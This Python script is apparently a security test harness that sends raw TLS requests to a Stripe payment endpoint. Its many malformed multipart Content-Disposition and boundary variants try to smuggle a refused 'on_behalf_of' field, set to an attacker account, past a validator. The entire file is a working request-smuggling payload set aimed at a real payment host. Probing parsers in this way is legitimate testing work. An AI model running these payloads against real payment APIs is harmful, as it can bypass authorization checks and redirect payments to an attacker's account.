# attack: a part with two names, an encoded name or a form inside is one field for the check and another one there
# expect: broker
# validator: refused
import json
import socket
import ssl


def ask(target, method="GET", headers="", body=b""):
    """Status and what arrived at the API, None when nothing did."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        head = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n{headers}"
        head += f"Content-Length: {len(body)}\r\n\r\n" if body else "\r\n"
        tls.sendall(head.encode("latin-1") + body)
        answer = b""
        while piece := tls.recv(65536):
            answer += piece
    head, _, text = answer.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    return status, json.loads(text).get("echo") if status == 200 else None


TARGET = "/v1/payment_intents"


def part(disposition, value="acct_attacker", more=""):
    return f"Content-Disposition: form-data; {disposition}{more}\r\n\r\n{value}\r\n"


def send(name, content_type, body):
    try:
        status, arrived = ask(TARGET, "POST", f"Content-Type: {content_type}\r\n", body.encode("latin-1"))
    except (OSError, ValueError, IndexError) as error:
        print(name, type(error).__name__, error)
        return
    print(name, status)
    # The refused field's name stands in the body as a name: that it arrived at all means that two readings were possible.
    if arrived and "on_behalf_of" in arrived["body"]:
        print("ESCAPED:", name, "arrived", flush=True)


NAMES = (
    'name="description"; name="on_behalf_of"',
    'name="on_behalf_of"; name="description"',
    "name=\"description\"; name*=utf-8''on_behalf_of",
    'name="description"; filename="a"; name="on_behalf_of"',
    'name="description"; x=" name=on_behalf_of"',
    'x="; name=on_behalf_of"; name="description"',
    'name="on_behalf_of',
    "name=on_behalf_of",
    "name='on_behalf_of'",
    'name="on_behalf\\_of"',
    'name="on_behalf_of%00"',
    'name="description"\r\nContent-Disposition: form-data; name="on_behalf_of"',
    'name="description"\r\nContent-ID: on_behalf_of',
    'name="description";\r\n name="on_behalf_of"',
    'NAME="on_behalf_of"',
    'name = "on_behalf_of"',
    'name="=?utf-8?q?on_behalf_of?="',
)
for disposition in NAMES:
    send(disposition, "multipart/form-data; boundary=A", f"--A\r\n{part(disposition)}--A--\r\n")

NESTED = part('name="on_behalf_of"')
OTHERS = {
    "nested": part('name="description"', f"--B\r\n{NESTED}--B--", "\r\nContent-Type: multipart/mixed; boundary=B"),
    "message": part('name="description"', NESTED, "\r\nContent-Type: message/rfc822"),
    "base64": part('name="description"', "b25fYmVoYWxmX29m\r\n--A\r\n" + NESTED, "\r\nContent-Transfer-Encoding: base64"),
    "end by a line feed": part('name="description"', "a\n--A--\n\r\n--A\r\n" + NESTED),
    "end by a return": part('name="description"', "a\r--A--\r\r\n--A\r\n" + NESTED),
    "boundary with blanks": part('name="description"', "a\r\n--A \t\r\n" + NESTED),
    "boundary with more": part('name="description"', "a\r\n--Ax\r\n" + NESTED),
    "no end": part('name="description"') + "--A\r\n" + NESTED[:-2] + "\r\n",
}
for name, body in OTHERS.items():
    send(name, "multipart/form-data; boundary=A", f"--A\r\n{body}--A--\r\n")
